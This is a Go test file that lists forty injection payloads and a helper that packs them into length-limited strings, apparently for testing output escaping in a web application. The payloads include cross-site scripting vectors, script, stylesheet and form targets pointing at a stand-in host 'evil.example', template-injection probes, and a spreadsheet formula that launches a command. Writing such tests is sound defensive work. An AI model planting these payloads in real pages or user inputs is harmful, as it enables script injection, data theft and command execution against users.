package web_test

import "unicode/utf8"

// markups are forty texts that would do something if a page took them for more than
// a text: alert, load, change the page, or be carried out by a template, a
// spreadsheet or a reader's eye.
var markups = []string{
	"<script class=zq9x>alert(1)</script>",
	"<ScRiPt class=zq9x>alert(2)</sCrIpT>",
	"<script class=zq9x src=//evil.example/a.js></script>",
	"<img class=zq9x src=x onerror=alert(3)>",
	"<img/class=zq9x/src=x/onerror=alert(4)>",
	"<svg class=zq9x onload=alert(5)>",
	"<svg class=zq9x><script>alert(6)</script></svg>",
	"<svg class=zq9x><a href=javascript:alert(7)>x</a></svg>",
	"<math class=zq9x><mi xlink:href=javascript:alert(8)>",
	"<body class=zq9x onload=alert(9)>",
	"<iframe class=zq9x src=javascript:alert(10)>",
	"<iframe class=zq9x srcdoc='<script>alert(11)</script>'>",
	"<object class=zq9x data=javascript:alert(12)>",
	"<embed class=zq9x src=javascript:alert(13)>",
	"<a class=zq9x href=javascript:alert(14)>x</a>",
	"<form class=zq9x action=//evil.example><button>x",
	"<input class=zq9x autofocus onfocus=alert(15)>",
	"<details class=zq9x open ontoggle=alert(16)>",
	"<video class=zq9x><source onerror=alert(17)>",
	"<style class=zq9x>*{display:none}</style>",
	"<link class=zq9x rel=stylesheet href=//evil.example/>",
	"<meta class=zq9x http-equiv=refresh content=0;//x>",
	"<base class=zq9x href=//evil.example/>",
	"</textarea><i class=zq9x>",
	"</title><i class=zq9x></script><i class=zq9x>",
	"--><i class=zq9x><!--",
	"\"><i class=zq9x onclick=alert(18)>",
	"' onmouseover='alert(19)' class='zq9x",
	"\" autofocus onfocus=\"alert(20)\" class=\"zq9x",
	"`-alert(21)-`';alert(22)//\\';alert(23)//",
	"javascript:alert(24)//",
	"data:text/html,<i class=zq9x>",
	"&lt;i class=zq9x&gt;&#60;i class=zq9x&#62;",
	"%3Ci%20class=zq9x%3E\\u003ci class=zq9x\\u003e",
	"＜script class=zq9x＞alert(25)＜/script＞",
	"{{1337*1337}}${1337*1337}<%=1337*1337%>",
	"{{define \"layout\"}}{{.}}{{end}}{{template \"x\"}}",
	"=HYPERLINK(\"//evil.example\",1337*1337)",
	"@SUM(1)*cmd|' /C calc'!A0 +1-1|zq9x",
	"零\u200b宽\ufeff字\u2028行\u00a0z\u0301\u0301\u0301q9x",
}

// evaluated is what a template would make of the product among the payloads.
const evaluated = "1787569"

// spread deals all of the payloads out over texts of at most so many characters.
func spread(limit int) (texts []string) {
	text := ""
	for _, payload := range markups {
		if text != "" && utf8.RuneCountInString(text)+1+utf8.RuneCountInString(payload) > limit {
			texts = append(texts, text)
			text = ""
		}
		if text != "" {
			text += " "
		}
		text += payload
	}
	return append(texts, text)
}
